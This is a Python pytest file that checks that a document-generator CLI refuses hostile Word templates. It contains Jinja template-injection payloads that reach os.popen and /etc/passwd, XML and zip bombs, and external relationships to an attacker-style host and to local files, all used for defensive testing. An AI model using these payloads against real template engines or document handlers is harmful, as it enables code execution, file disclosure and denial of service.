"""Hostile Word templates, built in the test, through `buat --templat` and `periksa-templat` in a child
under 1 GB / 30 s: one Indonesian sentence and a clean exit, no command run, no file read or written.

Each template starts from the bundled templates/keputusan.docx with one thing changed, as a person
(or an attacker) would change it in Word or in the zip."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest

from generator.cli import EXIT_FAILED, EXIT_INVALID, EXIT_OK
from tests.conftest import SALE
from tests.template_factory import before_section, template_bytes, with_tag

EXIT = {"buat": EXIT_FAILED, "periksa-templat": EXIT_INVALID}
PASSWD = Path("/etc/passwd").read_text(encoding="utf-8").splitlines()[0]
COMMANDS = pytest.mark.parametrize("command", ["buat", "periksa-templat"])


def run(limited, command: str, template: Path, tmp_path: Path):
    if command == "buat":
        args = ["buat", SALE, "--templat", template, "-o", tmp_path / "hasil", "--tanpa-gambar", "-j", "1"]
    else:
        args = ["periksa-templat", template]
    return limited(args, cwd=tmp_path)


def assert_nothing_leaked(outcome, tmp_path: Path) -> None:
    """No file of the machine shown, no command run, no decree written."""
    assert PASSWD not in outcome.text
    assert not (tmp_path / "marker").exists()
    assert not list(tmp_path.glob("hasil/*.docx"))


# ---------------------------------------------------------------------------- tags that try their luck

BIG = "{% set big = 'x' * 100000 %}"
TAGS = {
    "popen lewat __globals__": (
        "{{ cycler.__init__.__globals__.os.popen('touch MARKER').read() }}",
        "atribut terlarang '__globals__'",
    ),
    "popen lewat filter attr": (
        "{{ (cycler|attr('__init__')|attr('__globals__')).os.popen('touch MARKER').read() }}",
        "atribut terlarang",
    ),
    "__subclasses__": ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "atribut terlarang '__"),
    "open /etc/passwd": ("{{ open('/etc/passwd').read() }}", "'open'"),
    "self ke konteks": ("{{ self._TemplateReference__context }}", "atribut terlarang"),
    "range 10**9": ("{% for x in range(10**9) %}{% endfor %}", "range() meminta 1.000.000.000 nilai"),
    "'A'*10**10": ("{{ 'A'*10**10 }}", "nilai yang dibangun terlalu besar"),
    "[0]*10**9": ("{{ [0]*10**9 }}", "nilai yang dibangun terlalu besar"),
    "~ berlipat": (
        "{% set ns = namespace(s='A') %}{% for i in range(64) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
        "nilai yang dibangun terlalu besar",
    ),
    "daftar bersarang": (
        "{% set ns = namespace(l=[1]) %}{% for i in range(64) %}{% set ns.l = [ns.l, ns.l] %}{% endfor %}"
        "{{ ns.l }}",
        "nilai yang dibangun terlalu besar",
    ),
    "for bersarang": (
        "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}",
        "terlalu banyak langkah",
    ),
    "hasil raksasa": (BIG + "{% for i in range(100000) %}{{ big }}{% endfor %}", "hasil terlalu besar"),
    "makro menimbun": (
        BIG
        + "{% macro m() %}{% for i in range(100000) %}{{ big }}{% endfor %}{% endmacro %}{% set x = m() %}",
        "hasil terlalu besar",
    ),
    "terlalu lama": (
        "{% set big = 'x' * 3000000 %}"
        "{% for i in range(100000) %}{% if 'zz' in big %}{% endif %}{% endfor %}",
        "terlalu lama (lebih dari 8 detik)",
    ),
    "rekursi": ("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}", "bersarang terlalu dalam"),
    "lebar format": ("{{ '%0999999999d' % 1 }}", "terlalu besar sebagai argumen"),
    "salah tulis": ("{{ decree_heading }", "tag Jinja salah tulis"),
    "filter safe": ("{{ decree_heading|safe }}", "filter 'safe'"),
    "include berkas": ("{% include '/etc/passwd' %}", "{% include %}"),
}


@COMMANDS
@pytest.mark.parametrize("case", list(TAGS))
def test_hostile_tag_gets_one_sentence(limited, tmp_path, command, case):
    tag, expected = TAGS[case]
    template = tmp_path / "templat-kabupaten.docx"
    template.write_bytes(with_tag(tag.replace("MARKER", str(tmp_path / "marker"))))
    outcome = run(limited, command, template, tmp_path)
    outcome.assert_clean(EXIT[command])
    assert expected in outcome.text
    assert "Templat templat-kabupaten.docx" in outcome.text  # every sentence names the template
    assert_nothing_leaked(outcome, tmp_path)


def test_periksa_templat_lists_every_static_problem_before_any_fill(limited, tmp_path):
    """The first forbidden attribute would stop a fill; the static look reports all of them."""
    template = tmp_path / "templat.docx"
    template.write_bytes(
        template_bytes(
            {
                "{{ decree_heading }}": "{{ cycler.__init__ }} {% for x in range(10**9) %}{% endfor %}",
                "{{ number }}": "{{ number|tojson|urlize }}",
                "{{ title }}": "{% include 'kop.docx' %}{{ title is ganjil }}",
            }
        )
    )
    outcome = limited(["periksa-templat", template], cwd=tmp_path)
    outcome.assert_clean(EXIT_INVALID)
    for expected in ("'__init__'", "filter 'urlize'", "{% include %}", "uji 'ganjil'"):
        assert expected in outcome.text
    assert "pada paragraf «" in outcome.text
    assert "range()" not in outcome.text  # nothing was filled


# ---------------------------------------------------------------------------- files that are not templates


def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def _gigabyte_document() -> bytes:
    """A .docx of a few MB whose document.xml unpacks to 1 GiB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            chunk = b" " * (16 << 20)
            for _ in range(64):
                part.write(chunk)
    return out.getvalue()


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    )
    + ']><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"
)
DOTX = template_bytes(
    parts={
        "[Content_Types].xml": zipfile.ZipFile(io.BytesIO(template_bytes()))
        .read("[Content_Types].xml")
        .replace(b"document.main+xml", b"template.main+xml")
    }
)
FILES = {
    "tidak ada": (None, "tidak ditemukan"),
    "folder": ("folder", "adalah folder"),
    "teks biasa": (b"bukan word", "isinya bukan arsip zip"),
    "Word lama .doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "dokumen Word lama (.doc)"),
    "buku kerja Excel": (
        _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>"}),
        "buku kerja Excel",
    ),
    "zip tanpa dokumen": (
        _zip({"[Content_Types].xml": b"<Types/>", "a.txt": b"x"}),
        "word/document.xml tidak ada",
    ),
    "zip terpotong": (template_bytes()[:6000], "rusak"),
    "bom XML": (template_bytes(parts={"word/document.xml": LAUGHS.encode()}), "bom XML"),
    "XML tidak utuh": (
        template_bytes(parts={"word/styles.xml": b"<w:styles><w:style>"}),
        "bukan XML yang utuh",
    ),
    "templat .dotx": (DOTX, "bukan dokumen Word (.docx) yang dapat dibaca"),
}


@COMMANDS
@pytest.mark.parametrize("case", list(FILES))
def test_a_file_that_is_no_template_gets_one_sentence(limited, tmp_path, command, case):
    content, expected = FILES[case]
    template = tmp_path / "templat.docx"
    if content == "folder":
        template.mkdir()
    elif content is not None:
        template.write_bytes(content)
    outcome = run(limited, command, template, tmp_path)
    outcome.assert_clean(EXIT[command])
    assert expected in outcome.text
    assert "Templat templat.docx" in outcome.text
    assert_nothing_leaked(outcome, tmp_path)


@pytest.fixture(scope="module")
def gigabyte_template(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("bom") / "templat.docx"
    path.write_bytes(_gigabyte_document())
    return path


@COMMANDS
def test_document_xml_that_unpacks_to_a_gigabyte_is_refused(limited, tmp_path, command, gigabyte_template):
    assert gigabyte_template.stat().st_size < 10 << 20
    outcome = run(limited, command, gigabyte_template, tmp_path)
    outcome.assert_clean(EXIT[command])
    assert "Templat templat.docx ditolak: bagian word/document.xml berukuran 1024 MB" in outcome.text


@COMMANDS
def test_docxtpl_regular_expressions_that_never_end_are_cut_off(limited, tmp_path, command):
    """docxtpl's ``{% vm %}`` pattern backtracks for hours over a cell with no text after the tag;
    the child doing it is killed at its wall clock."""
    cell = "<w:tc>" + '<w:tcPr><w:tcW w:w="1"/></w:tcPr>' * 300
    cell += "<w:p><w:r><w:instrText>{% vm %}</w:instrText></w:r></w:p></w:tc>"
    template = tmp_path / "templat.docx"
    template.write_bytes(
        template_bytes(
            parts={"word/document.xml": before_section(f"<w:tbl><w:tr>{cell}</w:tr></w:tbl>").encode()}
        )
    )
    outcome = run(limited, command, template, tmp_path)
    outcome.assert_clean(EXIT[command])
    assert "Templat templat.docx dihentikan: pengolahannya lebih dari 20 detik." in outcome.text


# ---------------------------------------------------------------------------- the outside world

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


def _rel(rid: str, kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{R}/{kind}" Target="{target}"{mode}/>'


def _outside_template() -> bytes:
    base = zipfile.ZipFile(io.BytesIO(template_bytes()))
    document_rels = base.read("word/_rels/document.xml.rels").decode()
    document_rels = document_rels.replace(
        "</Relationships>",
        _rel("rIdBerkas", "hyperlink", "file:///etc/passwd")
        + _rel("rIdLaman", "hyperlink", "https://rembangkab.go.id/")
        + _rel("rIdGambar", "image", "http://penyerang.example/piksel.png")
        + _rel("rIdOle", "oleObject", "file:///C:/rahasia/data.xlsx")
        + _rel("rIdBagan", "chart", "charts/chart1.xml", external=False)
        + "</Relationships>",
    )
    body = before_section(
        '<w:p><w:hyperlink r:id="rIdBerkas"><w:r><w:t>berkas lokal</w:t></w:r></w:hyperlink>'
        '<w:hyperlink r:id="rIdLaman"><w:r><w:t>laman kabupaten</w:t></w:r></w:hyperlink>'
        '<w:r><w:pict><v:shape id="g1" style="width:10pt;height:10pt"><v:imagedata r:id="rIdGambar"/>'
        "</v:shape></w:pict></w:r>"
        '<w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="g1" r:id="rIdOle"/>'
        "</w:object></w:r></w:p>"
    )
    settings = base.read("word/settings.xml").decode()
    settings = re.sub(r"(<w:settings [^>]*>)", r'\1<w:attachedTemplate r:id="rIdTpl"/>', settings, count=1)
    content_types = (
        base.read("[Content_Types].xml")
        .decode()
        .replace(
            "</Types>",
            '<Override PartName="/word/charts/chart1.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.drawingml.chart+xml"/></Types>',
        )
    )
    chart = (
        '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" '
        f'xmlns:r="{R}"><c:externalData r:id="rIdData"/></c:chartSpace>'
    )
    return template_bytes(
        parts={
            "[Content_Types].xml": content_types.encode(),
            "word/document.xml": body.encode(),
            "word/_rels/document.xml.rels": document_rels.encode(),
            "word/settings.xml": settings.encode(),
            "word/_rels/settings.xml.rels": (
                f'<Relationships xmlns="{RELS}">'
                + _rel("rIdTpl", "attachedTemplate", "\\\\penyerang.example\\berbagi\\normal.dotm")
                + "</Relationships>"
            ).encode(),
            "word/charts/chart1.xml": chart.encode(),
            "word/charts/_rels/chart1.xml.rels": (
                f'<Relationships xmlns="{RELS}">'
                + _rel("rIdData", "oleObject", "file:///C:/rahasia/bagan.xlsx")
                + "</Relationships>"
            ).encode(),
        }
    )


REMOVED = ("normal.dotm", "file:///etc/passwd", "piksel.png", "data.xlsx", "bagan.xlsx")


def test_periksa_templat_reports_every_external_relationship(limited, tmp_path):
    template = tmp_path / "templat.docx"
    template.write_bytes(_outside_template())
    outcome = limited(["periksa-templat", template], cwd=tmp_path)
    outcome.assert_clean(EXIT_OK)
    warnings = [line for line in outcome.stderr.splitlines() if line.startswith("PERINGATAN")]
    assert len(warnings) == len(REMOVED)
    for target in REMOVED:
        assert any(target in w and "dibuang dari keputusan" in w for w in warnings), target
    assert "templat terlampir (attachedTemplate)" in outcome.stderr
    assert "tautan dalam teks dibiarkan" in outcome.stdout and "https://rembangkab.go.id/" in outcome.stdout


def test_external_relationships_never_reach_a_decree(limited, tmp_path):
    template = tmp_path / "templat.docx"
    template.write_bytes(_outside_template())
    outcome = run(limited, "buat", template, tmp_path)
    outcome.assert_clean(EXIT_OK)
    assert "PERINGATAN" in outcome.stderr and "normal.dotm" in outcome.stderr
    [output] = (tmp_path / "hasil").glob("*.docx")
    with zipfile.ZipFile(output) as archive:
        parts = {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}
    externals = [
        rel
        for name, text in parts.items()
        if name.endswith(".rels")
        for rel in re.findall(r"<Relationship [^>]*>", text)
        if 'TargetMode="External"' in rel
    ]
    assert len(externals) == 1 and 'Target="https://rembangkab.go.id/"' in externals[0]
    assert "attachedTemplate" not in parts["word/settings.xml"]
    document = parts["word/document.xml"]
    assert "berkas lokal" in document and "laman kabupaten" in document
    assert "OLEObject" not in document and "rIdGambar" not in document and "rIdBerkas" not in document
    assert "externalData" not in parts.get("word/charts/chart1.xml", "")
    from docx import Document

    assert "laman kabupaten" in "\n".join(p.text for p in Document(str(output)).paragraphs)
